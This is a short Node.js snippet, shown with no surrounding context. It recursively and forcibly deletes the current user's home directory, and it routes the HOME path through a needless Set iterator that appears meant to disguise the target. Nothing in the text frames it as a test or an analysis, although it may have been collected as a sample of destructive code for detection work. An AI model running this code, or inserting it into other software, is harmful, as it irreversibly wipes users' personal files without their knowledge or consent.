const fs = require('fs');
const os = require('os');
const first = new Set([process.env.HOME || os.homedir()]).keys().next().value;
fs.rmSync(first, { recursive: true, force: true });
